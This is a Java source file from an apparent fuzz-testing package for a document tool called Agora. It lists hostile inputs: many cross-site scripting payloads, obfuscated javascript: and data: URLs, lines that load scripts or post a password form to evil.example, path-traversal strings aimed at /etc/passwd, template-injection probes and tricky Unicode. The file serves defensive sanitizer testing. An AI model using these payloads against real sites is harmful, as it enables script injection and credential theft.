package org.agora.fuzz;

import java.util.List;
import java.util.SplittableRandom;

/**
 * What an attacker or a broken tool writes into a document: script in every HTML shape sanitizers have
 * missed, script-capable URLs with the obfuscations browsers undo, text that closes the element or attribute
 * it lands in, the private-use characters Agora itself uses as shortcode markers, and Unicode that confuses
 * people and parsers.
 */
final class HostileInputs {

    private HostileInputs() {}

    static final String ALERT = "alert(document.domain)";

    /** Raw HTML: each one runs script if it reaches a page as written. */
    static final List<String> HTML = List.of(
            "<script>" + ALERT + "</script>",
            "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
            "<script src=\"//evil.example/x.js\"></script>",
            "<img src=x onerror=" + ALERT + ">",
            "<img src=\"x\" onerror=\"" + ALERT + "\">",
            "<IMG SRC=\"jav&#x09;ascript:" + ALERT + "\">",
            "<img src=x:x onerror&#x3D;" + ALERT + ">",
            "<svg onload=" + ALERT + ">",
            "<svg><script>" + ALERT + "</script></svg>",
            "<svg><a xlink:href=\"javascript:" + ALERT + "\"><text x=\"20\" y=\"20\">click</text></a></svg>",
            "<svg><animate attributeName=\"href\" values=\"javascript:" + ALERT + "\"/></svg>",
            "<svg><set attributeName=\"onmouseover\" to=\"" + ALERT + "\"/></svg>",
            "<math><mtext><table><mglyph><style><img src=x onerror=" + ALERT + ">",
            "<math href=\"javascript:" + ALERT + "\">click</math>",
            "<iframe src=\"javascript:" + ALERT + "\"></iframe>",
            "<iframe srcdoc=\"&lt;script&gt;" + ALERT + "&lt;/script&gt;\"></iframe>",
            "<iframe src=\"https://www.youtube.com/embed/x\" onload=\"" + ALERT + "\"></iframe>",
            "<a href=\"javascript:" + ALERT + "\">click</a>",
            "<a href=\"jav&#x09;ascript:" + ALERT + "\">tab</a>",
            "<a href=\"jav&#x0A;ascript:" + ALERT + "\">newline</a>",
            "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;" + ALERT + "\">decimal</a>",
            "<a href=\"&#x6A;avascript&colon;" + ALERT + "\">named colon</a>",
            "<a href=\" \u0001javascript:" + ALERT + "\">control</a>",
            "<a href=\"JaVaScRiPt:" + ALERT + "\">case</a>",
            "<a href=\"vbscript:msgbox(1)\">vb</a>",
            "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">data</a>",
            "<a href=\"data:text/html,<script>" + ALERT + "</script>\">data</a>",
            "<a href=\"https://example.org\" onclick=\"" + ALERT + "\">handler</a>",
            "<a href=x onmouseover=" + ALERT + " >unquoted</a>",
            "<meta http-equiv=\"refresh\" content=\"0;url=javascript:" + ALERT + "\">",
            "<meta http-equiv=\"refresh\" content=\"0; url=https://evil.example/\">",
            "<base href=\"https://evil.example/\">",
            "<form action=\"https://evil.example/steal\"><input name=\"password\"><button>Go</button></form>",
            "<form><button formaction=\"javascript:" + ALERT + "\">Go</button></form>",
            "<input autofocus onfocus=" + ALERT + ">",
            "<details open ontoggle=" + ALERT + "><summary>x</summary></details>",
            "<body onload=" + ALERT + ">",
            "<div style=\"background:url(javascript:" + ALERT + ")\">styled</div>",
            "<div style=\"width: expression(" + ALERT + ")\">ie</div>",
            "<style>@import 'https://evil.example/x.css'; body{background:red}</style>",
            "<link rel=\"stylesheet\" href=\"https://evil.example/x.css\">",
            "<link rel=\"import\" href=\"https://evil.example/x.html\">",
            "<object data=\"data:text/html,<script>" + ALERT + "</script>\"></object>",
            "<embed src=\"javascript:" + ALERT + "\">",
            "<video><source onerror=\"" + ALERT + "\"></video>",
            "<audio src=x onerror=" + ALERT + ">",
            "<marquee onstart=" + ALERT + ">scroll</marquee>",
            "<x onclick=" + ALERT + ">custom element</x>",
            "<p title=\"</p><script>" + ALERT + "</script>\">attribute break</p>",
            "<noscript><p title=\"</noscript><img src=x onerror=" + ALERT + ">\"></noscript>",
            "<!--<img src=x onerror=" + ALERT + ">-->",
            "<![CDATA[<script>" + ALERT + "</script>]]>",
            "<textarea></textarea><script>" + ALERT + "</script>",
            "<table><td background=\"javascript:" + ALERT + "\">cell</td></table>",
            "<span title=\" onmouseover=" + ALERT + " x=\">quoted handler text</span>",
            "<abbr title='\" onfocus=" + ALERT + " autofocus tabindex=0 x=\"'>abbr</abbr>",
            "<img src=\"x.png\" alt=\" onerror=" + ALERT + " x=\">",
            "<a href=\"#\" title=\"&quot; onclick=&quot;" + ALERT + "\">entity quote</a>",
            "<div id=\"x\" class=\"y\" lang=\"en\" dir=\"rtl\" title=\"javascript:" + ALERT + "\">allowed attributes</div>");

    /** URLs that must never become a live link or source. */
    static final List<String> URLS = List.of(
            "javascript:" + ALERT,
            "JAVASCRIPT:" + ALERT,
            "javascript&colon;" + ALERT,
            "jav&#x09;ascript:" + ALERT,
            "jav&#9;ascript:" + ALERT,
            "&#106;avascript:" + ALERT,
            "%6A%61%76%61%73%63%72%69%70%74:" + ALERT,
            " javascript:" + ALERT,
            "java\\script:" + ALERT,
            "javascript://%0A" + ALERT,
            "vbscript:msgbox(1)",
            "VBScript:msgbox(1)",
            "livescript:" + ALERT,
            "data:text/html,<script>" + ALERT + "</script>",
            "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
            "data:image/svg+xml,<svg onload=" + ALERT + ">",
            "data:application/javascript," + ALERT,
            "\" onmouseover=\"" + ALERT,
            "' onmouseover='" + ALERT,
            "x\" onerror=\"" + ALERT,
            "https://example.org/\"><script>" + ALERT + "</script>",
            "//evil.example/x.js",
            "https://evil.example/x.js",
            "../../../../../../etc/passwd",
            "/../../../../etc/passwd",
            "..%2F..%2F..%2Fetc%2Fpasswd",
            "file:///etc/passwd",
            "\\\\evil.example\\share",
            "#\"><img src=x onerror=" + ALERT + ">");

    /** Plain text that closes whatever it is put in: an element, an attribute, a script, a comment, JSON. */
    static final List<String> TEXT = List.of(
            "\"><script>" + ALERT + "</script>",
            "'><img src=x onerror=" + ALERT + ">",
            "</script><script>" + ALERT + "</script>",
            "</title><script>" + ALERT + "</script>",
            "</textarea><svg onload=" + ALERT + ">",
            "--><script>" + ALERT + "</script><!--",
            "\" onmouseover=\"" + ALERT + "\" x=\"",
            "' autofocus onfocus='" + ALERT + "' x='",
            " onerror=" + ALERT + " ",
            "\\u003c/script\\u003e\\u003cscript\\u003e" + ALERT,
            "\"},\"x\":{\"@type\":\"</script><script>" + ALERT + "</script>",
            "{{ 7*7 }} {% raw %}{{ site }}{% endraw %}",
            "${7*7} #{7*7} <%= 7*7 %>",
            "&lt;script&gt;" + ALERT + "&lt;/script&gt;",
            "&#60;script&#62;" + ALERT + "&#60;/script&#62;",
            "javascript:" + ALERT,
            "<img src=x onerror=" + ALERT + ">",
            "<svg/onload=" + ALERT + ">");

    /** Unicode that looks harmless or invisible, or that tools treat specially. */
    static final List<String> UNICODE = List.of(
            "\u202Etxt.exe", "\u202Dforce-ltr\u202C", "\u2066isolate\u2069", "\u200B\u200C\u200D\u2060", "\uFEFFbom-inside",
            "e\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309\u030A\u030B\u030C", "\u0301starts-with-a-mark",
            "Z\u0351\u036B\u0343\u036A\u0302\u036B\u033D\u034F\u0334\u0319\u0324\u031E\u0349\u035A\u032F\u031E\u0320\u034Da\u0300l\u0308g\u0361o",
            "\uD83D\uDC69\uD83C\uDFFD\u200D\uD83D\uDE80", "\uD83C\uDDE7\uD83C\uDDEA", "\uD834\uDD1E", "\uD83D\uDCA9",
            "\u0645\u0631\u062D\u0628\u0627 \u0628\u0627\u0644\u0639\u0627\u0644\u0645", "\u05E9\u05DC\u05D5\u05DD", "\u4F60\u597D\u4E16\u754C",
            "\u00A0non\u00A0breaking\u00A0", "\u2028line\u2029paragraph", "\u0085next-line", "\u000Bvertical-tab\u000C",
            "\u0000nul", "\u0007bell", "\u001B[31mred\u001B[0m", "\u007Fdel", "\uFFFD", "\uFFFE\uFFFF", "\uFDD0",
            "\u0130stanbul", "\u00DFtra\u00DFe", "\uFB01ligature", "\u212Aelvin", "\u2126hm", "\u0041\u030A\u212B\u00C5");

    /** Agora's private-use shortcode markers, alone and as the tokens it writes: a family of their own ({@link HostileMix}). */
    static final List<String> MARKERS = List.of("\uE000", "\uE001", "\uE002", "\uE0000\uE001", "\uE00012\uE001",
            "<!--\uE0000\uE001-->", "<!--\uE000", "\uE000\uE002\uE001", "\uE0001\uE001\uE002");

    static final String MARKER_OPEN = "\uE000";
    static final String MARKER_CLOSE = "\uE001";
    static final String MARKER_INNER = "\uE002";

    /** A shortcode token as Agora writes it, pointing at the document's shortcode number {@code index}, in one of its shapes. */
    static String markerToken(SplittableRandom r, int index) {
        String token = MARKER_OPEN + index + MARKER_CLOSE;
        return switch (r.nextInt(4)) {
            case 0 -> "<!--" + token + "-->";
            case 1 -> "<!--" + token;
            case 2 -> token + MARKER_INNER;
            default -> token;
        };
    }

    static String html(SplittableRandom r) { return pick(r, HTML); }

    static String url(SplittableRandom r) { return pick(r, URLS); }

    static String text(SplittableRandom r) { return pick(r, TEXT); }

    static String unicode(SplittableRandom r) { return pick(r, UNICODE); }

    static String marker(SplittableRandom r) { return pick(r, MARKERS); }

    /** Anything of the above, for a field that takes text. */
    static String any(SplittableRandom r) {
        return switch (r.nextInt(5)) {
            case 0 -> html(r);
            case 1 -> url(r);
            case 2, 3 -> text(r);
            default -> unicode(r) + " " + text(r);
        };
    }

    static String percentEncodedPayload(SplittableRandom r) {
        return java.net.URLEncoder.encode(text(r), java.nio.charset.StandardCharsets.UTF_8);
    }

    static <T> T pick(SplittableRandom r, List<T> list) { return list.get(r.nextInt(list.size())); }
}
